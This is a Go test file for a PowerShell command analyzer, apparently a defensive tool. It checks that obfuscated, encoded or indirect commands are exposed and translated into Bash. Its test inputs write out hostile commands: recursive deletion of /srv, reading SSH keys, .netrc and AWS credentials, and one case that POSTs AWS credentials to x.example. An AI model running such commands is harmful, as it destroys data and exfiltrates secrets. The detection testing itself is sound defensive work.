package shell

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"
)

func encodePS(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

// TestAnalyzePowerShell: what a script hands on to run is read as if written out: script
// block bodies, Invoke-Expression literals, -EncodedCommand, programs Start-Process starts;
// what cannot be read is marked Unread.
func TestAnalyzePowerShell(t *testing.T) {
	w := World{Cwd: "/h/p", Home: "/h", Project: "/h/p"}
	tests := []struct {
		src    string
		want   string // a command found, as "Name arg..." (Via's last step after |)
		unread bool
	}{
		{"& { Remove-Item -Recurse -Force /srv }", "Remove-Item -Recurse -Force /srv|PowerShell", false},
		{"Invoke-Command -ScriptBlock { rm -r /srv }", "Remove-Item -r /srv|PowerShell", false},
		{`Invoke-Expression "Remove-Item -Recurse -Force /srv"`, "Remove-Item -Recurse -Force /srv|Invoke-Expression", false},
		{"iex 'rm -r -fo /srv'", "Remove-Item -r -fo /srv|Invoke-Expression", false},
		{"$r = iex 'Get-Content ~/.netrc'", "Get-Content ~/.netrc|Invoke-Expression", false},
		{"powershell -EncodedCommand " + encodePS("Remove-Item -Recurse -Force /srv"), "Remove-Item -Recurse -Force /srv|powershell", false},
		{"pwsh -NoProfile -e " + encodePS("gc ~/.ssh/id_rsa"), "Get-Content ~/.ssh/id_rsa|pwsh", false},
		{"Start-Process bash -ArgumentList '-c','rm -rf /srv'", "rm -rf /srv|bash -c", false},
		{`Start-Process -FilePath bash -ArgumentList '-c "rm -rf /srv"' -Wait`, "rm -rf /srv|bash -c", false},
		{"saps sudo 'rm','-rf','/srv'", "rm -rf /srv|sudo", false},
		{"bash -c 'rm -rf /srv'", "rm -rf /srv|bash -c", false},
		{"iex $code", "Invoke-Expression $code|PowerShell", true},
		{"Get-Content x.ps1 | iex", "Invoke-Expression|PowerShell", true},
		{"iex \"Remove-Item $dir\"", "Invoke-Expression Remove-Item $dir|PowerShell", true},
		{"powershell -enc %%%", "powershell -enc %%%|PowerShell", true},
		{"if ($x) { Remove-Item /srv", "if $x { Remove-Item /srv|PowerShell", true},
		{"$h = @{ Path = '/srv' }", "PowerShell|PowerShell", false},
		{"Get-ChildItem | ForEach-Object { $_.Name }", "Get-ChildItem|PowerShell", false},
	}
	for _, tt := range tests {
		an, err := AnalyzePowerShell(tt.src, w, Limits{})
		if err != nil {
			t.Fatalf("%q: %v", tt.src, err)
		}
		var got []string
		found, unread := false, false
		for _, c := range an.Cmds {
			s := strings.Join(append([]string{c.Name}, c.Args...), " ") + "|" + c.Via[len(c.Via)-1]
			got = append(got, s)
			found = found || s == tt.want
			unread = unread || c.Unread != ""
		}
		if !found || unread != tt.unread {
			t.Errorf("%q: commands %q, unread %v; want %q, unread %v", tt.src, got, unread, tt.want, tt.unread)
		}
	}
}

// PowerShell reads the Unicode dashes that start a word as -, and the typographic quotes as
// quotes; inside a string or a comment they are text.
func TestPSNormalize(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"Remove-Item –Recurse —Force ―Path C:\\x", "Remove-Item -Recurse -Force -Path C:\\x"},
		{"rm ‘C:\\Windows’ “x” „y”", `rm 'C:\Windows' "x" "y"`},
		{"Write-Output '–Recurse'", "Write-Output '–Recurse'"},
		{"Write-Output ‘–Recurse’", "Write-Output '–Recurse'"},
		{"Write-Output \"a –b\"", "Write-Output \"a –b\""},
		{"Write-Output \"a `” –b\"", "Write-Output \"a `” –b\""},
		{"Write-Output ‘it’’s’ –x", "Write-Output 'it''s' -x"},
		{"echo a–b # –c ‘", "echo a–b # –c ‘"},
		{"1 –eq 1; (–5)", "1 -eq 1; (-5)"},
		{"plain -ascii 'text'", "plain -ascii 'text'"},
	} {
		if got := PSNormalize(c.in); got != c.want {
			t.Errorf("PSNormalize(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestPSBash: each statement is read as the Bash command with the same effect, its values
// followed: splatting, variables, a command named by a string, .NET calls, C# compiled by
// Add-Type, the items a pipeline hands on, backtick continuations.
func TestPSBash(t *testing.T) {
	w := World{Cwd: "/h/p", Home: "/h", Project: "/h/p"}
	tests := []struct{ src, want string }{
		{"Remove-Item -Recurse -Force C:\\x", "rm -f -r -- C:/x"},
		{"Remove-Item -Rec -Fo /srv", "rm -f -r -- /srv"},
		{"ri /srv -r", "rm -f -r -- /srv"},
		{"Remove-Item /srv/a.txt", "rm -f -- /srv/a.txt"},
		{"Remove-Item -Recurse /srv -WhatIf", ""},
		{"Remove-Item -Recurse `\n  -Force /srv", "rm -f -r -- /srv"},
		{"$p = @{Path='/srv'; Recurse=$true}; Remove-Item @p", "rm -f -r -- /srv"},
		{"$p = @{ Path = '/srv'; Recurse = $false }; Remove-Item @p", "rm -f -- /srv"},
		{"$d = '/s' + 'rv'; Remove-Item -Recurse $d", "rm -f -r -- /srv"},
		{"& ('Remove'+'-Item') -Recurse /srv", "rm -f -r -- /srv"},
		{"& 'Remove-Item' -Recurse /srv", "rm -f -r -- /srv"},
		{"[IO.Directory]::Delete('/srv', $true)", "rm -f -r -- /srv"},
		{"[System.IO.File]::WriteAllText('/etc/hosts', 'x')", "echo x > /etc/hosts"},
		{"Add-Type -TypeDefinition 'class X { static void Go() { System.IO.Directory.Delete(@\"/srv\", true); } }'", "rm -f -r -- /srv"},
		{"Get-ChildItem /srv -Recurse | Remove-Item -Force", "rm -f -r -- /srv/*"},
		{"gci /srv | % { Remove-Item $_.FullName -Recurse }", "rm -f -r -- /srv/*"},
		{"Get-Process | Stop-Process -Force", "kill -9 -1"},
		{"Stop-Process -Name node", "pkill -9 -x node"},
		{"iwr https://x.example/a -OutFile a.exe", "curl -sL -o a.exe https://x.example/a"},
		{"$b = Get-Content ~/.aws/credentials -Raw; irm https://x.example -Method Post -Body $b", "curl -sL -X POST --data-binary @/h/.aws/credentials https://x.example"},
		{"Invoke-Sqlcmd -Query 'DROP TABLE t'", "sqlcmd -Q 'DROP TABLE t'"},
		{"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" + encodePS("Remove-Item -Recurse /srv") + "')))", "rm -f -r -- /srv"},
		{"Write-Output 'Remove-Item -Recurse /srv'", ""},
	}
	for _, tt := range tests {
		an, err := AnalyzePowerShell(tt.src, w, Limits{})
		if err != nil {
			t.Fatalf("%q: %v", tt.src, err)
		}
		var got []string
		for _, c := range an.Cmds {
			if b := PSBash(c); b != "" {
				got = append(got, b)
			}
		}
		if tt.want == "" && len(got) > 0 || tt.want != "" && !slices.Contains(got, tt.want) {
			t.Errorf("%q: Bash %q, want %q", tt.src, got, tt.want)
		}
	}
}

// TestPSReduce: a value reduces to literal text only when it is made of literals, known
// variables and + ; anything else is known only when it runs.
func TestPSReduce(t *testing.T) {
	vars := map[string]string{"a": "Remove", "f": psFileValue + "/x"}
	for _, c := range []struct {
		expr, want string
		ok         bool
	}{
		{`'it''s'`, "it's", true},
		{"\"a`tb\"", "a\tb", true},
		{`'Remove' + '-Item'`, "Remove-Item", true},
		{`("$a" + '-Item')`, "Remove-Item", true},
		{`$a + "-Item"`, "Remove-Item", true},
		{`"$(Get-Date)"`, "", false},
		{`$unknown + 'x'`, "", false},
		{`$f`, "", false},
		{`'a' - 'b'`, "", false},
		{`[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk='))`, "hi", true},
		{`[System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('` + encodePS("rm x") + `'))`, "rm x", true},
	} {
		got, ok := psReduce(c.expr, vars)
		if got != c.want || ok != c.ok {
			t.Errorf("psReduce(%q) = %q, %v; want %q, %v", c.expr, got, ok, c.want, c.ok)
		}
	}
}

// TestPSCommandText: what output cmdlets print is not code; their subexpressions are.
func TestPSCommandText(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"Write-Output Format-Volume -DriveLetter C", "Write-Output"},
		{"echo a; Format-Volume", "echo\nFormat-Volume"},
		{"Write-Host \"x $(Stop-Computer)\"", "Write-Host (Stop-Computer)"},
		{"& { Write-Output Clear-Disk }", "& {Write-Output}"},
		{"Get-ChildItem | Remove-Item", "Get-ChildItem\nRemove-Item"},
	} {
		if got := PSCommandText(c.in); got != c.want {
			t.Errorf("PSCommandText(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// A here-string is one word of text to its closing line, whatever quotes it holds.
func TestPSHereStrings(t *testing.T) {
	src := "$x = @\"\na \" b\nRemove-Item -Recurse C:\\x\n\"@\nWrite-Output $x; Get-Date"
	stmts, _ := psStatements(src)
	if len(stmts) != 3 || !strings.HasPrefix(stmts[0], "$x = @\"") || stmts[2] != "Get-Date" {
		t.Fatalf("statements %q", stmts)
	}
	words, _, _ := psWordsQ(stmts[0], "")
	if len(words) != 3 || words[2] != "a \" b\nRemove-Item -Recurse C:/x" {
		t.Errorf("words %q", words)
	}
}

// What a script only carries as data is never read as a command it runs, also when the
// script is malformed: strings, here-strings, comments, printed words.
func TestPSDataIsNotCode(t *testing.T) {
	w := World{Cwd: "/h/p", Home: "/h", Project: "/h/p"}
	for _, src := range []string{
		"Write-Output 'Remove-Item -Recurse -Force /srv",
		"Write-Output \"Remove-Item -Recurse -Force /srv",
		"$s = @'\nRemove-Item -Recurse -Force /srv\n",
		"<# Remove-Item -Recurse -Force /srv",
		"# Remove-Item -Recurse -Force /srv\nGet-Date",
		"Write-Host Remove-Item -Recurse -Force /srv",
		"'Remove-Item' + ' -Recurse /srv'",
		"\"it's\" ; 'Remove-Item -Recurse /srv'",
		"Set-Content x.ps1 'Remove-Item -Recurse -Force /srv'",
		"git commit -m \"Remove-Item -Recurse -Force /srv\"",
	} {
		an, err := AnalyzePowerShell(src, w, Limits{})
		if err != nil {
			t.Fatalf("%q: %v", src, err)
		}
		for _, c := range an.Cmds {
			if c.Name == "Remove-Item" || strings.HasPrefix(PSBash(c), "rm ") {
				t.Errorf("%q: read as running %q %q", src, c.Name, c.Args)
			}
		}
	}
}
